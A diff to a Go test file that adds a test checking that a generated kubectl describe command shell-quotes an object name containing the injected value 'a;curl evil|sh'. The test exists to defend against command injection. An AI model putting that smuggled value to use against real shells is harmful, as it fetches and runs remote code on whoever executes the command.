@@ -160,6 +160,18 @@ func TestARecordingFollowsNothingElse(t *testing.T) {
 	}
 }
 
+func TestACommandToCopyIsNothingButWordsToAShell(t *testing.T) {
+	p := screen(t)
+	_, b := bazaar()
+	odd := &status.Object{ID: status.ID{Group: "x.io", Kind: "W", Namespace: "a b", Name: "a;curl evil|sh"}, UID: "w"}
+	b.Objects, b.Roots = []*status.Object{odd}, []status.Root{{ID: odd.ID}}
+	p.batch(0, b)
+	n := p.m.w.nodes.At(odd.ID)
+	if got, want := p.m.nextCommand(n), "kubectl -n 'a b' describe 'w.x.io/a;curl evil|sh'"; got != want {
+		t.Errorf("%s, want %s", got, want)
+	}
+}
+
 func TestTheCopyMenuTakesEverythingToTheClipboard(t *testing.T) {
 	p := screen(t)
 	_, b := bazaar()
